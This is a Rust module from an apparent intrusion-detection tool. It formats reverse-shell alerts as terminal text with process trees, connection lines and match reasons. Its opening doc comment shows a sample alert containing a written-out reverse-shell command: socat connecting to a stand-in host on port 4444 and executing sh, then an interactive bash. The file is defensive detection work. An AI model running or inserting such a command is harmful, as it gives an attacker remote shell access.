//! An alert as a block of text: a heading, the tree of processes with the connection and the execution in it, why it matched, and
//! what else there is to know.
//!
//! ```text
//! ALERT medium 47: Potential Reverse Shell via Child (reverse-shell-via-child)
//!   2026-05-28T20:26:42.013000001Z
//!
//!   socat1 pid 7, uid 0
//!   │ socat TCP:198.51.100.1:4444 EXEC:sh
//!   └─ bash pid 4242, www-data (33)
//!      ├─  0 ms  10.0.0.9:40000 ──▶ 198.51.100.1:4444 outbound
//!      └─ 13 ms  /usr/bin/bash bash -i
//! ```

use super::look::Look;
use super::picture::{Arrow, Picture};
use super::program::Program;
use super::sheet::{Piece, Sheet, elided, whole, words};
use anstyle::{AnsiColor, Style};
use serde_json::Value;

const PLAIN: Style = Style::new();
const QUIET: Style = Style::new().dimmed();
const STRONG: Style = Style::new().bold();
const REMOTE: Style = AnsiColor::Magenta.on_default().bold();
/// Lines that a command line, and any other text, may take.
const MOST_LINES: usize = 4;
/// Columns of the names of details.
const NAMES: usize = 12;

/// The alert as a block of lines, which an empty line ends.
#[must_use]
pub fn block(alert: &Value, look: Look) -> String {
    let picture = Picture::of(alert);
    let mut sheet = Sheet::new(look);
    heading(&mut sheet, &picture);
    sheet.blank();
    Tree::new(&picture, look.width).draw(&mut sheet);
    sheet.blank();
    let why = picture.why.iter().map(|why| ("why", why));
    for (name, text) in why.chain(picture.details.iter().map(|(name, text)| (*name, text))) {
        detail(&mut sheet, name, text);
    }
    sheet.blank();
    sheet.finish()
}

/// What an alert of this severity looks like.
#[must_use]
pub fn style_of(severity: Option<&str>) -> Style {
    match severity {
        Some("low") => AnsiColor::Cyan.on_default().bold(),
        Some("medium") => AnsiColor::Yellow.on_default().bold(),
        Some("critical") => AnsiColor::White.on(AnsiColor::Red).bold(),
        _ => AnsiColor::Red.on_default().bold(),
    }
}

fn heading(sheet: &mut Sheet, picture: &Picture) {
    let graded = style_of(picture.severity.as_deref());
    let grade = format!("ALERT {}:", picture.grade());
    let heading = elided(&picture.heading(), 200);
    sheet.flow(("", "  "), &[whole(graded, &grade), words(STRONG, &heading)]);
    if let Some(time) = &picture.time {
        sheet.flow(("  ", "  "), &[words(PLAIN, &elided(time, 60))]);
    }
}

fn detail(sheet: &mut Sheet, name: &str, text: &str) {
    let room = sheet.width().saturating_sub(NAMES + 2);
    sheet.flow(
        (&format!("  {name:<NAMES$}"), &" ".repeat(NAMES + 2)),
        &[words(PLAIN, &elided(text, MOST_LINES * room))],
    );
}

/// The processes, each below its parent.
struct Tree<'p> {
    picture: &'p Picture,
    /// Columns by which a child stands to the right of its parent: fewer where many would leave no room.
    step: usize,
    width: usize,
}

impl<'p> Tree<'p> {
    fn new(picture: &'p Picture, width: usize) -> Self {
        let levels = picture.programs.len() + 1;
        let step = [3, 1].into_iter().find(|step| levels * step <= width / 3).unwrap_or(0);
        Self { picture, step, width }
    }

    fn draw(&self, sheet: &mut Sheet) {
        let Picture { programs, older, .. } = self.picture;
        if *older {
            sheet.flow(("  ", "  "), &[words(QUIET, "\u{2026} older ancestors are not in the document")]);
        }
        for (level, program) in programs.iter().enumerate() {
            self.program(sheet, level, program);
        }
    }

    /// Where the text of a process of this level begins: its own first line, and the lines below.
    fn margin(&self, level: usize) -> (String, String) {
        match level {
            0 => ("  ".to_owned(), "  ".to_owned()),
            _ => {
                let turn = if self.step == 3 { "\u{2514}\u{2500} " } else { "\u{2514} " };
                let margin = format!("  {}", " ".repeat((level - 1) * self.step));
                (format!("{margin}{turn}"), margin + &" ".repeat(self.step.min(turn.chars().count()).max(1)))
            }
        }
    }

    fn program(&self, sheet: &mut Sheet, level: usize, program: &Program) {
        let (first, rest) = self.margin(level);
        let is_shell = level + 1 == self.picture.programs.len();
        let by = |arrow: &&Arrow| arrow.by == level;
        let connection = self.picture.connection.as_ref().filter(by);
        let name = if is_shell { style_of(self.picture.severity.as_deref()) } else { STRONG };
        let facts = facts(program);
        // What is below hangs on this line.
        let below = format!("{rest}\u{2502} ");
        sheet.flow((&first, &below), &[whole(name, &elided(program.title(), 40)), words(PLAIN, &facts)]);
        let room = (MOST_LINES * self.width.saturating_sub(below.chars().count())).max(MOST_LINES * 10);
        let command = program.command.as_deref().map(|command| elided(command, room));
        if let Some(command) = command.as_deref().filter(|_| !is_shell) {
            sheet.flow((&below, &below), &[words(QUIET, command)]);
        }
        let turn = if is_shell { "\u{251c}\u{2500} " } else { "\u{251c}\u{2500}\u{2500} " };
        if let Some(arrow) = connection {
            self.connection(sheet, (&format!("{rest}{turn}"), &format!("{rest}\u{2502}  ")), arrow);
        }
        if is_shell {
            self.execution(sheet, &rest, program, command.as_deref().unwrap_or_default());
        }
    }

    fn after(&self) -> Option<String> {
        self.picture.elapsed_ms.map(|elapsed| format!("{elapsed} ms "))
    }

    fn connection(&self, sheet: &mut Sheet, margin: (&str, &str), arrow: &Arrow) {
        let under = arrow.under.as_ref().map(|maker| elided(maker, 60)).unwrap_or_default();
        let [local, remote] = [&arrow.local, &arrow.remote].map(|end| elided(end, 60));
        let zero = self.after().map(|after| format!("{:>1$}", "0 ms ", after.len())).unwrap_or_default();
        let pieces = [
            whole(QUIET, &zero),
            whole(PLAIN, &under),
            whole(PLAIN, &local),
            whole(REMOTE, arrow.sign()),
            whole(REMOTE, &remote),
            whole(PLAIN, arrow.way()),
        ];
        sheet.flow(margin, &pieces);
    }

    fn execution(&self, sheet: &mut Sheet, rest: &str, program: &Program, command: &str) {
        let after = self.after().unwrap_or_default();
        let path = program.executable.as_ref().map(|path| elided(path, 120)).unwrap_or_default();
        let pieces: [Piece<'_>; 3] = [whole(QUIET, &after), words(PLAIN, &path), words(STRONG, command)];
        if pieces.iter().any(|piece| !piece.is_empty()) {
            sheet.flow((&format!("{rest}\u{2514}\u{2500} "), &format!("{rest}   ")), &pieces);
        }
    }
}

/// `pid 4242, www-data (33)`, with the name of the process where it is not that of its executable.
pub(super) fn facts(program: &Program) -> String {
    let Program { pid, comm, user, .. } = program;
    let pid = pid.as_ref().map(|pid| format!("pid {pid}"));
    let comm = comm.as_ref().map(|comm| format!("called {}", elided(comm, 40)));
    let user = user.as_ref().map(|user| elided(user, 60));
    let facts: Vec<String> = [pid, user, comm].into_iter().flatten().collect();
    facts.join(", ")
}
